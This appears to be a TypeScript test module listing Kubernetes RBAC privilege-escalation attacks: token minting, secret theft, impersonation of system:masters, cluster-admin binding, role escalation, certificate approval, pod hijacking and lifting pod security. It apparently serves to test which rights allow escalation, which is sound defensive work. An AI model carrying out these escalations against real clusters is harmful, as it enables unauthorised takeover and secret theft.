/** The primitives that are carried out: what the account is given, what it does with that, and as whom it ends. */
import { binding, type Raw, subject } from '../../support/rbac.ts';
import { eventually } from '../harness.ts';
import type { Actor } from './actor.ts';
import { admissionAttacks } from './admission-attacks.ts';
import { type Attack, cluster, type Goal, home, me, right } from './attack.ts';
import { certificateFor } from './certificate.ts';
import { type Attacker, nameOf, RBAC_API, type Stage } from './stage.ts';

/** What `boss` and `vip` may, and the attacker may not. */
export const readCrown: Goal = (actor, { vault }) =>
  actor('GET', `/api/v1/namespaces/${vault}/secrets/crown`);
const readTreasure: Goal = (actor, { home }) => actor('GET', `/api/v1/namespaces/${home}/secrets/treasure`);
const runPrivileged: Goal = (actor, { home }) =>
  actor('POST', `/api/v1/namespaces/${home}/pods?dryRun=All`, pod('privileged', { privileged: true }));

const RBAC = 'rbac.authorization.k8s.io';
const CERTIFICATES = 'certificates.k8s.io';
const SIGNER = 'kubernetes.io/kube-apiserver-client';
const KUBELET_SIGNER = 'kubernetes.io/kube-apiserver-client-kubelet';
const core = (namespace: string): string => `/api/v1/namespaces/${namespace}`;

const pod = (name: string, securityContext: Raw = {}): Raw => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name },
  spec: podSpec(securityContext),
});
const podSpec = (securityContext: Raw = {}): Raw => ({
  serviceAccountName: 'boss',
  containers: [{ name: 'main', image: 'registry.example/attack:1', securityContext }],
});

/** A token Secret, which the token controller fills. */
const tokenSecret = (name: string, of: string): Raw => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name, annotations: { 'kubernetes.io/service-account.name': of } },
  type: 'kubernetes.io/service-account-token',
});

const tokenIn = (found: Raw): string | undefined => {
  const { token } = (found['data'] ?? {}) as { readonly token?: string };
  return token === undefined ? undefined : Buffer.from(token, 'base64').toString();
};

/** The attacker reads it until the controller has filled it. */
async function tokenFrom({ actor, stage }: Attacker, name: string): Promise<Actor> {
  const path = `${core(stage.home)}/secrets/${name}`;
  await actor('GET', path); // a refusal is an answer, not something to wait out
  const token = await eventually('the token', async () => tokenIn(await actor('GET', path)));
  return stage.actors.withToken(token);
}

/** Somebody else's pod, with the account `boss`. */
const victim = ({ actors, home: namespace }: Stage, name: string): Promise<Raw> =>
  actors.admin('POST', `${core(namespace)}/pods`, pod(name));

const boss = ({ stage }: Attacker): string => `system:serviceaccount:${stage.home}:boss`;

/** Asks the API server who one is then: without the right to claim it, it does not answer. */
async function claim({ claiming }: Attacker, headers: Readonly<Record<string, string>>): Promise<Actor> {
  const actor = await claiming(headers);
  const kind = 'SelfSubjectReview';
  await actor('POST', '/apis/authentication.k8s.io/v1/selfsubjectreviews', {
    apiVersion: 'authentication.k8s.io/v1',
    kind,
  });
  return actor;
}

export const attacks: readonly Attack[] = [
  {
    slug: 'mint-tokens',
    rights: [home('create', 'serviceaccounts:token')],
    attack: async ({ actor, stage }) => {
      const body = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
      const { status } = await actor('POST', `${core(stage.home)}/serviceaccounts/boss/token`, body);
      return stage.actors.withToken((status as { readonly token: string }).token);
    },
  },
  {
    slug: 'read-secrets',
    rights: [home('get', 'secrets')],
    attack: async (attacker) => {
      const { stage, name } = attacker;
      await stage.actors.admin('POST', `${core(stage.home)}/secrets`, tokenSecret(`${name}-found`, 'boss'));
      return tokenFrom(attacker, `${name}-found`);
    },
  },
  {
    slug: 'forge-token-secrets',
    rights: [home('create', 'secrets'), home('get', 'secrets')],
    attack: async (attacker) => {
      const { actor, stage, name } = attacker;
      await actor('POST', `${core(stage.home)}/secrets`, tokenSecret(name, 'boss'));
      return tokenFrom(attacker, name);
    },
  },
  {
    slug: 'impersonate-accounts',
    rights: [home('impersonate', 'serviceaccounts')],
    attack: (attacker) => claim(attacker, { 'impersonate-user': boss(attacker) }),
  },
  {
    slug: 'impersonate-users',
    rights: [cluster('impersonate', 'users')],
    attack: (attacker) => claim(attacker, { 'impersonate-user': attacker.stage.vip }),
  },
  {
    slug: 'impersonate-groups',
    rights: [cluster('impersonate', 'groups', 'system:masters'), cluster('impersonate', 'users', 'nobody')],
    attack: (attacker) =>
      claim(attacker, { 'impersonate-user': 'nobody', 'impersonate-group': 'system:masters' }),
  },
  {
    slug: 'impersonate-constrained',
    rights: [
      home('impersonate:serviceaccount', 'authentication.k8s.io/serviceaccounts'),
      right('vault', 'impersonate-on:serviceaccount:get', 'secrets'),
    ],
    attack: async (attacker) => {
      const actor = await attacker.claiming({ 'impersonate-user': boss(attacker) });
      await readCrown(actor, attacker.stage);
      return actor;
    },
  },
  {
    slug: 'bind-cluster-roles',
    rights: [
      cluster('bind', `${RBAC}/clusterroles`, 'cluster-admin'),
      cluster('create', `${RBAC}/clusterrolebindings`),
    ],
    attack: async (attacker) => {
      const name = `${attacker.stage.id}-${attacker.name}-taken`;
      await attacker.actor(
        'POST',
        `${RBAC_API}/clusterrolebindings`,
        binding(name, 'ClusterRole/cluster-admin', me(attacker)),
      );
      return attacker.actor;
    },
  },
  {
    slug: 'bind-roles',
    rights: [home('bind', `${RBAC}/clusterroles`, 'admin'), home('create', `${RBAC}/rolebindings`)],
    attack: async (attacker) => {
      const { stage, name } = attacker;
      const taken = binding(`${stage.home}/${name}-taken`, 'ClusterRole/admin', me(attacker));
      await attacker.actor('POST', `${RBAC_API}/namespaces/${stage.home}/rolebindings`, taken);
      return attacker.actor;
    },
    goal: readTreasure,
  },
  {
    slug: 'escalate-roles',
    rights: [cluster('escalate', `${RBAC}/clusterroles`), cluster('patch', `${RBAC}/clusterroles`)],
    attack: async ({ actor, name, stage }) => {
      const all = { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] };
      await actor('PATCH', `${RBAC_API}/clusterroles/${stage.id}-${name}`, all);
      return actor;
    },
  },
  {
    slug: 'escalate-namespace-roles',
    rights: [home('escalate', `${RBAC}/roles`), home('patch', `${RBAC}/roles`)],
    attack: async ({ actor, name, stage }) => {
      const all = { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] };
      await actor('PATCH', `${RBAC_API}/namespaces/${stage.home}/roles/${name}`, all);
      return actor;
    },
    goal: readTreasure,
  },
  {
    slug: 'approve-certificates',
    rights: [
      cluster('create', `${CERTIFICATES}/certificatesigningrequests`),
      cluster('patch', `${CERTIFICATES}/certificatesigningrequests:approval`),
      cluster('approve', `${CERTIFICATES}/signers`, SIGNER),
    ],
    attack: ({ actor, name, stage }) => {
      const wanted = { subject: `CN=${stage.vip}`, signerName: SIGNER, usages: ['client auth'] };
      return certificateFor(wanted, `${stage.id}-${name}`, actor, stage.actors);
    },
  },
  {
    slug: 'approve-node-certificates',
    rights: [
      cluster('create', `${CERTIFICATES}/certificatesigningrequests`),
      cluster('patch', `${CERTIFICATES}/certificatesigningrequests:approval`),
      cluster('approve', `${CERTIFICATES}/signers`, KUBELET_SIGNER),
    ],
    attack: async ({ actor, name, stage }) => {
      // there is no Node authorizer here, which lets nodes read the Secrets of their pods: a binding stands for it
      const nodes = binding(`${stage.vault}/${name}-nodes`, 'Role/reader', subject('group:system:nodes'));
      await stage.actors.admin('POST', `${RBAC_API}/namespaces/${stage.vault}/rolebindings`, nodes);
      const wanted = {
        subject: `O=system:nodes, CN=system:node:${name}`,
        signerName: KUBELET_SIGNER,
        usages: ['digital signature', 'client auth'],
      };
      return certificateFor(wanted, `${stage.id}-${name}`, actor, stage.actors);
    },
  },
  {
    slug: 'create-pods',
    rights: [home('create', 'pods')],
    attack: async ({ actor, name, stage }) =>
      stage.insideOf(await actor('POST', `${core(stage.home)}/pods`, pod(`${name}-own`))),
  },
  {
    slug: 'write-controllers',
    rights: [home('create', 'apps/deployments')],
    attack: async ({ actor, name, stage }) => {
      const labels = { app: name };
      await actor('POST', `/apis/apps/v1/namespaces/${stage.home}/deployments`, {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name },
        spec: { selector: { matchLabels: labels }, template: { metadata: { labels }, spec: podSpec() } },
      });
      const made = await eventually('the pod of the Deployment', async () => {
        const { items } = await stage.actors.admin(
          'GET',
          `${core(stage.home)}/pods?labelSelector=app%3D${name}`,
        );
        return (items as readonly Raw[])[0];
      });
      return stage.insideOf(made);
    },
  },
  {
    slug: 'change-pods',
    rights: [home('patch', 'pods')],
    attack: async ({ actor, name, stage }) => {
      const found = await victim(stage, `${name}-victim`);
      const image = 'registry.example/attack:2';
      const path = `${core(stage.home)}/pods/${nameOf(found)}`;
      const changed = await actor('PATCH', path, { spec: { containers: [{ name: 'main', image }] } });
      return insideIf(changed, stage, 'containers', image);
    },
  },
  {
    slug: 'add-debug-containers',
    rights: [home('patch', 'pods:ephemeralcontainers')],
    attack: async ({ actor, name, stage }) => {
      const found = await victim(stage, `${name}-victim`);
      const image = 'registry.example/attack:3';
      const path = `${core(stage.home)}/pods/${nameOf(found)}/ephemeralcontainers`;
      const changed = await actor('PATCH', path, {
        spec: { ephemeralContainers: [{ name: 'debug', image }] },
      });
      return insideIf(changed, stage, 'ephemeralContainers', image);
    },
  },
  {
    slug: 'lift-pod-security',
    // as a Role: a namespace is in itself
    rights: [home('patch', 'namespaces')],
    besides: [home('create', 'pods')],
    labels: { 'pod-security.kubernetes.io/enforce': 'restricted' },
    attack: async ({ actor, stage }) => {
      const labels = { 'pod-security.kubernetes.io/enforce': 'privileged' };
      await actor('PATCH', core(stage.home), { metadata: { labels } });
      return actor;
    },
    goal: runPrivileged,
  },
  ...admissionAttacks,
];

/** Code of the attacker's in a pod of somebody else has what the pod has. */
async function insideIf(found: Raw, stage: Stage, field: string, image: string): Promise<Actor> {
  const containers = (found['spec'] as Raw)[field] as readonly Raw[] | undefined;
  if (containers?.some((container) => container['image'] === image) !== true)
    throw new Error(`${nameOf(found)} does not run ${image}`);
  return stage.insideOf(found);
}
